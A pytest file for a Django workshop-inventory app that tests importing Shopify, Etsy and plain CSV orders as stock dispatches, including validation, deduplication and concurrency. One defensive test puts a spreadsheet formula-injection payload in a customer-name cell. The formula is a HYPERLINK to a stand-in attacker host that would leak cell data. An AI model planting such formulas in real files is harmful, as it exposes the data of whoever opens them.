"""Orders imported from CSV (plain, Shopify, Etsy) become dispatches: the preview, the import in
one transaction drawing first-expiry-first, and the lines it leaves out. The candle workshop of
conftest.py, with two batches made: CND-01 from wax W2 (its candles keep a year) and then CND-02
from wax W1 (60 days), so the newer batch's candles are the ones that go first. Each batch makes
2 lavender and 2 cedar candles: 4 of each on the bench. Every figure below is worked out by hand
from the files in tests/fixtures."""

from datetime import date, timedelta
from decimal import Decimal as D
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from recipes.demo import CANDLE_SCENTS
from stock import orders
from stock.checks import ledger_violations
from stock.dispatches import Sent, customer_save, dispatch_create, dispatch_reverse
from stock.models import (
    Balance,
    Customer,
    Dispatch,
    Posting,
    production_location,
    workshop_today,
)
from stock.order_files import ETSY, PLAIN, SHOPIFY, read_orders
from stock.services import lots_hold, workshop_save
from tests.batches.conftest import key
from tests.batches.test_trace import _batch
from tests.threads import run_together

pytestmark = pytest.mark.django_db

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"


def fixture_text(name: str) -> str:
    return (FIXTURES / name).read_text("utf-8")


@pytest.fixture
def stocked(candle):
    """{"late": CND-01's lots, "early": CND-02's}, by scent."""
    late = _batch(candle, candle.lots["W2"])
    early = _batch(candle, candle.lots["W1"])
    assert early["Lavender"].expiry_date < late["Lavender"].expiry_date
    return {"late": late, "early": early}


def upload(client, content, name="orders.csv", *, channel="", location=None):
    data = content.encode("utf-8") if isinstance(content, str) else content
    location = location or production_location()  # what the page offers first
    fields = {"file": SimpleUploadedFile(name, data, "text/csv"), "channel": channel}
    if location is not None:
        fields["location"] = location.pk
    return client.post(reverse("stock:orders-import"), fields)


def preview_of(client, content, **kwargs):
    """Upload a file and open its preview: (token, response)."""
    response = upload(client, content, **kwargs)
    assert response.status_code == 302, response.content.decode()
    token = response["Location"].rstrip("/").rsplit("/", 1)[-1]
    return token, client.get(response["Location"])


def confirm(client, token):
    return client.post(reverse("stock:orders-import-confirm", args=[token]))


def messages_of(response):
    return [str(m) for m in response.wsgi_request._messages]


def summary(preview):
    """Each order as (reference, date, customer, email, [(sku, quantity, left out because)])."""
    return [
        (
            o.reference,
            o.dispatched_on,
            o.name,
            o.email,
            [(line.sku, line.quantity, line.skipped) for line in o.lines],
        )
        for o in preview.orders
    ]


def sent(dispatch):
    """What a dispatch drew: [(lot code, quantity)], in the order of its lines."""
    return [(m.lot.code, -m.quantity) for m in dispatch.posting.movements.order_by("id")]


# Reading each format ---------------------------------------------------------------------------


def test_a_shopify_export_reads_one_order_per_name_with_the_customer_from_its_first_row(
    candle,
):
    preview = orders.orders_preview(text=fixture_text("orders_shopify.csv"), location=candle.bench)
    assert preview.file.format is SHOPIFY and preview.file.channel == "Shopify"
    refunded, no_sku = "Refunded on Shopify", orders.SKIP_NO_SKU
    assert summary(preview) == [
        (
            "#1001",
            date(2026, 11, 20),
            "Ann Lee",
            "ann.lee@example.com",
            [("CND-LAV", 2, ""), ("CND-CED", 1, "")],  # row 3 has no customer: row 2's
        ),
        (
            "#1002",
            date(2026, 11, 21),
            "Ben Ortiz",
            "ben.ortiz@example.com",
            [("CND-CED", 1, ""), ("", None, no_sku)],  # gift wrapping
        ),
        # Refunded: nothing of it is read further, so nothing of it needs fixing.
        ("#1003", None, "Cat Nguyen", "cat.nguyen@example.com", [("CND-LAV", None, refunded)]),
        (  # partially refunded: still sent
            "#1004",
            date(2026, 11, 23),
            "Dan Moreau",
            "dan.moreau@example.com",
            [("CND-LAV", 1, "")],
        ),
        ("#1005", date(2026, 11, 25), "Ann Lee", "Ann.Lee@example.com", [("CND-LAV", 1, "")]),
    ]


def test_an_etsy_export_reads_month_first_dates_and_the_name_on_the_parcel(candle):
    preview = orders.orders_preview(text=fixture_text("orders_etsy.csv"), location=candle.bench)
    assert preview.file.format is ETSY and preview.file.channel == "Etsy"
    assert summary(preview) == [
        (
            "3187654321",
            date(2026, 11, 22),
            "Erin Walsh",
            "",
            [("CND-LAV", 1, ""), ("CND-CED", 1, "")],
        ),
        ("3187699017", date(2026, 11, 24), "Gráinne Byrne", "", [("CND-LAV", 2, "")]),
    ]
    variations = [line.variations for o in preview.orders for line in o.lines]
    assert variations == ["Scent:Lavender", "Scent:Cedarwood", "Scent:Lavender"]


def test_the_plain_format_groups_rows_by_order_reference(candle):
    preview = orders.orders_preview(
        text=fixture_text("orders_plain.csv"), channel="  Winter   market ", location=candle.bench
    )
    assert preview.file.format is PLAIN and preview.file.channel == "Winter market"
    assert summary(preview) == [
        (
            "MKT-2611-01",
            date(2026, 11, 28),
            "Hana Sato",
            "hana@example.com",
            [("CND-LAV", 1, ""), ("CND-CED", 1, "")],
        ),
        ("MKT-2611-02", date(2026, 11, 28), "Ivo Petrov", "", [("cnd-ced", 2, "")]),  # 28/11/2026
    ]
    assert preview.orders[1].lines[0].item == candle.cedar.item  # the SKU in any case


def test_a_plain_file_without_a_channel_is_dispatched_as_csv(candle):
    assert read_orders(fixture_text("orders_plain.csv")).channel == "CSV"


def test_the_example_file_reads_as_three_orders_of_the_demo_s_products():
    example = (settings.BASE_DIR / "docs/examples/orders-import.csv").read_text("utf-8")
    orders_file = read_orders(example)
    assert orders_file.format is PLAIN
    assert [(o.reference, len(o.lines)) for o in orders_file.orders] == [
        ("MARKET-1114-01", 2),
        ("MARKET-1114-02", 1),
        ("WHOLESALE-0042", 2),
    ]
    demo_skus = {sku for _, sku, _ in CANDLE_SCENTS} | {"SOAP-LAV", "SOAP-EUC"}
    assert {line.sku for o in orders_file.orders for line in o.lines} <= demo_skus


def test_shopify_s_created_at_is_dated_where_the_workshop_is(candle):
    workshop_save(
        name="Test workshop",
        time_zone="America/New_York",
        currency="EUR",
        batch_reference_pattern="{CODE}-{SEQ}",
    )
    text = (
        "Name,Email,Financial Status,Created at,Lineitem quantity,Lineitem sku,Billing Name\n"
        "#7,a@example.com,paid,2026-11-23 03:30:00 +0100,1,CND-LAV,Ann\n"
    )
    # 03:30 in Paris is 21:30 the evening before in New York.
    preview = orders.orders_preview(text=text, location=candle.bench)
    assert preview.orders[0].dispatched_on == date(2026, 11, 22)


# The preview -----------------------------------------------------------------------------------


def test_the_preview_lists_what_will_be_dispatched_and_what_is_left_out(maker_client, stocked):
    _, response = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    html = response.text
    assert response.status_code == 200
    assert "a Shopify order export" in html and "Bench" in html
    assert "4 orders, 3 new customers" in html  # Ann twice (her email in two cases)
    assert "Dispatch 4 orders" in html
    assert "<strong>Row 5</strong>, order #1002: no SKU" in html
    assert "<strong>Row 6</strong>, order #1003, CND-LAV: Refunded on Shopify" in html
    assert Dispatch.objects.count() == 0 and Customer.objects.count() == 0  # writes nothing


def test_the_preview_names_an_unknown_sku_and_too_little_stock_and_offers_no_import(
    maker_client, stocked
):
    text = (
        "date,order_reference,customer_name,email,sku,quantity\n"
        "2026-11-28,M-1,Hana Sato,,CND-LAV,3\n"
        "2026-11-28,M-2,Ivo Petrov,,CND-LAV,2\n"
        "2026-11-28,M-2,Ivo Petrov,,CND-ROSE,1\n"
    )
    _, response = preview_of(maker_client, text)
    html = response.text
    assert "2 problems to fix, so nothing will be imported" in html
    assert "<strong>Row 4</strong>: No product has the SKU CND-ROSE." in html
    assert (
        "<strong>Rows 2, 3</strong>: Not enough Soy candle Lavender at Bench: "
        "the file sends 5 each, 4 each in usable lots"
    ) in html
    assert "Dispatch 2 orders" not in html and "orders-import-confirm" not in html


def test_quarantined_and_expired_candles_do_not_count_as_stock(maker_client, stocked):
    lots_hold(lots=[stocked["early"]["Lavender"]], note="soot", user=None)
    _, response = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    assert "the file sends 4 each, 2 each in usable lots" in response.text


BAD_ROWS = [
    ("2099-01-01,M-1,Hana,,CND-LAV,1", "date: 01 Jan 2099 is in the future."),
    ("2026-13-01,M-1,Hana,,CND-LAV,1", "date: &#x27;2026-13-01&#x27; is not a date"),
    (",M-1,Hana,,CND-LAV,1", "date is empty."),
    ("2026-11-28,,Hana,,CND-LAV,1", "order_reference is empty."),
    ("2026-11-28,M-1,,,CND-LAV,1", "The order has no customer: customer_name is empty."),
    ("2026-11-28,M-1,Hana,not-an-email,CND-LAV,1", "is not an email address."),
    ("2026-11-28,M-1,Hana,,CND-LAV,0", "quantity: 0 must be more than 0."),
    ("2026-11-28,M-1,Hana,,CND-LAV,-1", "quantity: -1 must be more than 0."),
    ("2026-11-28,M-1,Hana,,CND-LAV,1.5", "Soy candle Lavender is counted in whole pieces"),
    ("2026-11-28,M-1,Hana,,CND-LAV,two", "quantity: &#x27;two&#x27; is not a number."),
    ("2026-11-28,M-1,Hana,,CND-LAV,", "quantity is empty."),
    ("2026-11-28,M-1,Hana,,SKU-WAX,1", "Soy wax is not a product: only product variants"),
    ("2026-11-28,M-1,Hana,,CND-LAV,1,extra", "This row has 7 cells but the header has 6"),
]


@pytest.mark.parametrize(("row", "message"), BAD_ROWS)
def test_each_bad_value_is_named_in_the_preview(maker_client, stocked, candle, row, message):
    candle.wax.sku = "SKU-WAX"
    candle.wax.save()
    _, response = preview_of(
        maker_client, f"date,order_reference,customer_name,email,sku,quantity\n{row}\n"
    )
    assert message in response.text
    assert "badge-bad" in response.text and "orders-import-confirm" not in response.text


def test_one_order_that_names_two_customers_is_a_mistake(maker_client, stocked):
    text = (
        "date,order_reference,customer_name,email,sku,quantity\n"
        "2026-11-28,MARKET,Hana Sato,,CND-LAV,1\n"
        "2026-11-28,MARKET,Ivo Petrov,,CND-CED,1\n"
    )
    _, response = preview_of(maker_client, text)
    assert (
        "customer_name is &#x27;Ivo Petrov&#x27; here but &#x27;Hana Sato&#x27; on row 2, "
        "in the same order."
    ) in response.text


# Importing -------------------------------------------------------------------------------------


def test_importing_dispatches_one_order_each_first_expiry_first(maker_client, maker, stocked):
    early, late = stocked["early"], stocked["late"]
    token, _ = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    response = confirm(maker_client, token)
    assert response.status_code == 302
    assert response["Location"] == reverse("stock:postings") + "?kind=dispatch"
    dispatches = list(Dispatch.objects.order_by("pk"))
    numbers = ", ".join(f"#{d.pk}" for d in dispatches)
    assert messages_of(response) == [
        f"Imported 4 orders: dispatches {numbers}. 3 new customers. "
        "2 lines left out, as the preview listed."
    ]
    assert [(d.order_reference, d.customer.name, d.dispatched_on) for d in dispatches] == [
        ("#1001", "Ann Lee", date(2026, 11, 20)),
        ("#1002", "Ben Ortiz", date(2026, 11, 21)),
        ("#1004", "Dan Moreau", date(2026, 11, 23)),
        ("#1005", "Ann Lee", date(2026, 11, 25)),
    ]
    assert dispatches[0].customer == dispatches[3].customer  # found again by her email
    assert dispatches[0].customer.email == "ann.lee@example.com"
    assert {d.channel for d in dispatches} == {"Shopify"}
    assert {d.created_by for d in dispatches} == {maker}
    # CND-02 (W1, 60 days) goes before CND-01 (W2, a year), though it was made later.
    assert sent(dispatches[0]) == [("CND-02-LAV", 2), ("CND-02-CED", 1)]
    assert sent(dispatches[1]) == [("CND-02-CED", 1)]
    assert sent(dispatches[2]) == [("CND-01-LAV", 1)]
    assert sent(dispatches[3]) == [("CND-01-LAV", 1)]
    assert Balance.objects.get(lot=early["Lavender"]).quantity == 0
    assert Balance.objects.get(lot=late["Lavender"]).quantity == 0
    assert Balance.objects.get(lot=late["Cedar"]).quantity == 2
    assert dispatches[0].note == "Imported from orders.csv"
    assert ledger_violations() == []


def test_an_etsy_order_keeps_its_buyer_in_the_note_when_someone_else_got_the_parcel(
    maker_client, stocked
):
    token, _ = preview_of(maker_client, fixture_text("orders_etsy.csv"), name="EtsySold.csv")
    confirm(maker_client, token)
    gift = Dispatch.objects.get(order_reference="3187699017")
    assert (gift.channel, gift.customer.name) == ("Etsy", "Gráinne Byrne")
    assert gift.note == "Imported from EtsySold.csv\nEtsy buyer: Finn Byrne"
    assert Dispatch.objects.get(order_reference="3187654321").note == "Imported from EtsySold.csv"


def test_an_existing_customer_is_found_by_email_else_by_name(maker_client, stocked):
    hana = customer_save(name="Hana S.", email="HANA@example.com")
    ivo = customer_save(name="ivo petrov")
    token, response = preview_of(maker_client, fixture_text("orders_plain.csv"))
    assert "new customer" not in response.text
    confirm(maker_client, token)
    assert [d.customer for d in Dispatch.objects.order_by("pk")] == [hana, ivo]
    assert Customer.objects.count() == 2


def test_a_new_customer_s_orders_in_one_file_make_one_customer(maker_client, stocked):
    text = (
        "date,order_reference,customer_name,email,sku,quantity\n"
        "2026-11-28,M-1,Hana Sato,hana@example.com,CND-LAV,1\n"
        "2026-11-29,M-2,hana sato,,CND-LAV,1\n"  # no email: found by her name
        "2026-11-29,M-3,H. Sato,HANA@example.com,CND-CED,1\n"  # found by her email
        "2026-11-30,M-4,Hana Sato,hana@elsewhere.example,CND-CED,1\n"  # another Hana
    )
    token, response = preview_of(maker_client, text)
    assert "4 orders, 2 new customers" in response.text
    confirm(maker_client, token)
    customers = [d.customer for d in Dispatch.objects.order_by("pk")]
    assert customers[0] == customers[1] == customers[2] != customers[3]
    assert [c.email for c in Customer.objects.order_by("pk")] == [
        "hana@example.com",
        "hana@elsewhere.example",
    ]


def test_a_namesake_with_another_email_is_another_customer(maker_client, stocked):
    customer_save(name="Hana Sato", email="hana.sato@elsewhere.example")
    token, _ = preview_of(maker_client, fixture_text("orders_plain.csv"))
    confirm(maker_client, token)
    assert Dispatch.objects.order_by("pk").first().customer.email == "hana@example.com"
    assert Customer.objects.filter(name="Hana Sato").count() == 2


def test_importing_the_same_file_twice_dispatches_once(maker_client, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    confirm(maker_client, token)
    first = {d.order_reference: d.pk for d in Dispatch.objects.all()}

    token, response = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    html = response.text
    assert "Nothing to dispatch: every line of this file has been dispatched already" in html
    assert "orders-import-confirm" not in html
    for row, reference in [(2, "#1001"), (3, "#1001"), (4, "#1002"), (7, "#1004"), (8, "#1005")]:
        assert f"<strong>Row {row}</strong>, order {reference}, CND-" in html
    assert f"already dispatched: Dispatch #{first['#1001']} of 20 Nov 2026" in html
    response = confirm(maker_client, token)  # posted anyway: nothing happens
    assert messages_of(response)[-1] == (
        "Nothing was imported: every line of the file has been dispatched already or is left out."
    )
    assert Dispatch.objects.count() == 4 and Posting.objects.filter(kind="dispatch").count() == 4


def test_a_double_tapped_import_dispatches_once_and_says_so(maker_client, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_etsy.csv"))
    confirm(maker_client, token)
    again = confirm(maker_client, token)
    assert messages_of(again)[-1] == "This file was already imported; nothing was dispatched twice."
    assert Dispatch.objects.count() == 2


def test_the_import_service_with_the_same_key_twice_writes_once(maker, stocked, candle):
    text, upload_key = fixture_text("orders_plain.csv"), key()
    kwargs = {"text": text, "location": candle.bench, "user": maker, "idempotency_key": upload_key}
    first = orders.orders_import(**kwargs)
    second = orders.orders_import(**kwargs)
    assert not first.replayed and second.replayed
    assert second.dispatches == first.dispatches and Dispatch.objects.count() == 2


def test_an_overlapping_export_skips_only_what_was_dispatched(maker_client, stocked):
    full = fixture_text("orders_shopify.csv").splitlines(keepends=True)
    token, _ = preview_of(maker_client, "".join(full[:5]))  # last week's: #1001 and #1002
    confirm(maker_client, token)
    assert sorted(Dispatch.objects.values_list("order_reference", flat=True)) == ["#1001", "#1002"]

    token, response = preview_of(maker_client, "".join(full))  # this week's overlaps it
    assert "Dispatch 2 orders" in response.text
    confirm(maker_client, token)
    references = list(Dispatch.objects.order_by("pk").values_list("order_reference", flat=True))
    assert references == ["#1001", "#1002", "#1004", "#1005"]


def test_only_the_lines_of_an_order_not_yet_dispatched_are_sent(maker_client, stocked, candle):
    ann = customer_save(name="Ann Lee", email="ann.lee@example.com")
    by_hand = dispatch_create(
        customer=ann,
        lines=[Sent(item=candle.lavender.item, quantity=D(2))],
        location=candle.bench,
        user=None,
        idempotency_key=key(),
        channel="shopify",  # typed by hand, in another case
        order_reference="#1001",
    )
    token, response = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    assert f"already dispatched: Dispatch #{by_hand.pk}" in response.text
    confirm(maker_client, token)
    rest = Dispatch.objects.exclude(pk=by_hand.pk).get(order_reference="#1001")
    assert [(line.item, line.quantity) for line in rest.lines.all()] == [(candle.cedar.item, 1)]
    assert rest.customer == ann


def test_a_reversed_dispatch_does_not_count_and_the_preview_says_so(maker_client, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_etsy.csv"))
    confirm(maker_client, token)
    returned = Dispatch.objects.get(order_reference="3187699017")
    dispatch_reverse(dispatch=returned, note="lost in the post", user=None, idempotency_key=key())

    token, response = preview_of(maker_client, fixture_text("orders_etsy.csv"))
    assert f"Dispatch #{returned.pk} of this line was reversed" in response.text
    assert "Dispatch 1 order" in response.text
    confirm(maker_client, token)
    assert Dispatch.objects.filter(order_reference="3187699017").count() == 2


def test_a_row_repeated_cell_for_cell_is_pointed_out(maker_client, stocked):
    rows = fixture_text("orders_etsy.csv").splitlines(keepends=True)
    _, response = preview_of(maker_client, "".join([*rows, rows[1]]))
    assert "the same as row 2, cell for cell: sent twice, unless you remove one" in response.text


def test_a_channel_typed_by_the_maker_is_the_dispatches_channel(maker_client, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_plain.csv"), channel="Winter market")
    confirm(maker_client, token)
    assert set(Dispatch.objects.values_list("channel", flat=True)) == {"Winter market"}


def test_stock_gone_since_the_preview_imports_nothing_and_shows_why(maker_client, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    lots_hold(lots=[stocked["late"]["Lavender"]], note="soot", user=None)
    response = confirm(maker_client, token)
    assert response.status_code == 200
    assert "Nothing was imported: stock or dispatches changed since the preview." in response.text
    assert "the file sends 4 each, 2 each in usable lots" in response.text
    assert Dispatch.objects.count() == 0 and Customer.objects.count() == 0


def test_an_order_that_fails_writes_nothing_and_is_named(maker_client, stocked, monkeypatch):
    real = orders.dispatch_create

    def failing_on_dan(**kwargs):
        if kwargs["order_reference"] == "#1004":
            raise ValidationError("The bench is on fire.")
        return real(**kwargs)

    monkeypatch.setattr(orders, "dispatch_create", failing_on_dan)
    token, _ = preview_of(maker_client, fixture_text("orders_shopify.csv"))
    response = confirm(maker_client, token)
    assert messages_of(response) == [
        "Order #1004 (row 7) could not be dispatched, so nothing was: The bench is on fire."
    ]
    assert Dispatch.objects.count() == 0 and Customer.objects.count() == 0
    assert Posting.objects.filter(kind="dispatch").count() == 0


@pytest.mark.django_db(transaction=True)
def test_two_overlapping_files_imported_at_the_same_moment_dispatch_each_line_once(candle):
    _batch(candle, candle.lots["W2"])
    _batch(candle, candle.lots["W1"])
    full = fixture_text("orders_shopify.csv")
    overlap = "".join(full.splitlines(keepends=True)[:5])

    def import_one(i):
        return orders.orders_import(
            text=[full, overlap][i], location=candle.bench, user=None, idempotency_key=key()
        )

    results = run_together(2, import_one)
    assert not [r for r in results if isinstance(r, Exception)], results
    references = sorted(Dispatch.objects.values_list("order_reference", flat=True))
    assert references == ["#1001", "#1002", "#1004", "#1005"]
    assert ledger_violations() == []


# Files that cannot be imported as they are -----------------------------------------------------


def test_a_byte_order_mark_and_semicolons_are_read(maker_client, stocked):
    text = fixture_text("orders_plain.csv").replace(",", ";")
    _, response = preview_of(maker_client, "\ufeff" + text)
    assert "Dispatch 2 orders" in response.text


def test_a_windows_1252_file_is_refused_with_how_to_save_it(maker_client, stocked):
    text = "date,order_reference,customer_name,email,sku,quantity\n"
    text += "2026-11-28,M-1,Zoë Müller,,CND-LAV,1\n"
    response = upload(maker_client, text.encode("cp1252"))
    assert response.status_code == 200
    assert (
        "The file is not UTF-8 text. In your spreadsheet, save it as “CSV UTF-8”" in response.text
    )
    assert Dispatch.objects.count() == 0 and Customer.objects.count() == 0


def test_a_formula_in_a_cell_is_shown_and_kept_as_text(maker_client, stocked):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    text = "date,order_reference,customer_name,email,sku,quantity\n"
    text += f'2026-11-28,+M-1,"{formula.replace(chr(34), chr(34) * 2)}",,CND-LAV,1\n'
    token, response = preview_of(maker_client, text)
    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;Click&quot;)" in response.text
    assert 'href="http://evil.example' not in response.text
    confirm(maker_client, token)
    dispatch = Dispatch.objects.get()
    assert (dispatch.customer.name, dispatch.order_reference) == (formula, "+M-1")


def test_more_than_five_thousand_rows_are_refused_with_their_count(maker_client, stocked):
    text = "date,order_reference,customer_name,email,sku,quantity\n" + "".join(
        f"2026-11-28,M-{n},Hana,,CND-LAV,1\n" for n in range(5001)
    )
    response = upload(maker_client, text)
    assert response.status_code == 200
    assert "The file has 5,001 rows of order lines; the limit is 5,000." in response.text


def test_five_thousand_rows_preview_with_a_shared_problem_named_once(maker_client, stocked):
    text = "date,order_reference,customer_name,email,sku,quantity\n" + "".join(
        f"2026-11-28,M-{n},Hana,,CND-ROSE,1\n" for n in range(5000)
    )
    _, response = preview_of(maker_client, text)
    assert response.status_code == 200
    assert (
        "<strong>Rows 2, 3, 4, 5, 6, 7, 8, 9, 10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 21 "
        "and 4,980 more</strong>: No product has the SKU CND-ROSE."
    ) in response.text


@pytest.mark.parametrize(
    ("column", "message"),
    [
        ("customer_name", "customer_name is longer than 200 characters."),
        ("order_reference", "order_reference is longer than 64 characters."),
        ("sku", "sku is longer than 64 characters."),
        ("quantity", "quantity is longer than 30 characters."),
        ("email", "email is longer than 254 characters."),
    ],
)
def test_a_five_thousand_character_cell_is_named_not_a_crash(
    maker_client, stocked, column, message
):
    cells = {
        "date": "2026-11-28",
        "order_reference": "M-1",
        "customer_name": "Hana",
        "email": "",
        "sku": "CND-LAV",
        "quantity": "1",
    }
    cells[column] = "9" * 5000
    text = ",".join(cells) + "\n" + ",".join(cells.values()) + "\n"
    token, response = preview_of(maker_client, text)
    assert message in response.text
    assert "9" * 101 not in response.text  # shown cut short
    confirm(maker_client, token)
    assert Dispatch.objects.count() == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty"),
        (b"\n\n", "The file is empty"),
        (b"order,who,what\n1,Ann,CND-LAV\n", "The header row is not one Loomworks knows."),
        (
            b"date,order_reference,customer_name,email,sku,quantity\n",
            "The file has a header row but no orders under it.",
        ),
        (
            b"Name,Created at,Lineitem sku\n#1,2026-11-20,CND-LAV\n",
            "This looks like a Shopify order export, but its header row has no lineitem_quantity",
        ),
        (b"PK\x03\x04rest-of-a-workbook", "This is a spreadsheet workbook, not a CSV file."),
    ],
)
def test_a_file_that_is_not_orders_says_why_on_the_upload_page(maker_client, content, message):
    response = upload(maker_client, content)
    assert response.status_code == 200
    assert message in response.text


# Who may, and how many queries -----------------------------------------------------------------


def test_the_import_page_explains_the_formats_and_serves_the_example(maker_client, workshop):
    response = maker_client.get(reverse("stock:orders-import"))
    assert "Lineitem sku" in response.text and "Sale Date" in response.text
    example = maker_client.get(reverse("stock:orders-import-example"))
    assert example.status_code == 200
    assert b"order_reference" in b"".join(example.streaming_content)


def test_a_viewer_cannot_import_orders(maker_client, viewer, stocked):
    token, _ = preview_of(maker_client, fixture_text("orders_plain.csv"))
    viewer_client = Client()
    viewer_client.force_login(viewer)
    assert viewer_client.get(reverse("stock:orders-import")).status_code == 403
    assert upload(viewer_client, fixture_text("orders_plain.csv")).status_code == 403
    preview = reverse("stock:orders-import-preview", args=[token])
    assert viewer_client.get(preview).status_code == 403
    assert confirm(viewer_client, token).status_code == 403
    assert Dispatch.objects.count() == 0
    assert "Import orders" not in viewer_client.get(reverse("stock:on-hand")).text
    assert "Import orders" in maker_client.get(reverse("stock:on-hand")).text


def _plain_file(n_orders: int) -> str:
    day = (workshop_today() - timedelta(days=1)).isoformat()
    return "date,order_reference,customer_name,email,sku,quantity\n" + "".join(
        f"{day},M-{n},Customer {n},c{n}@example.com,{'CND-LAV' if n % 2 else 'CND-CED'},1\n"
        for n in range(n_orders)
    )


def test_the_preview_takes_the_same_number_of_queries_for_3_or_30_orders(candle):
    counts = []
    for n in (3, 30):
        with CaptureQueriesContext(connection) as queries:
            orders.orders_preview(text=_plain_file(n), location=candle.bench)
        counts.append(len(queries))
    assert counts[0] == counts[1]
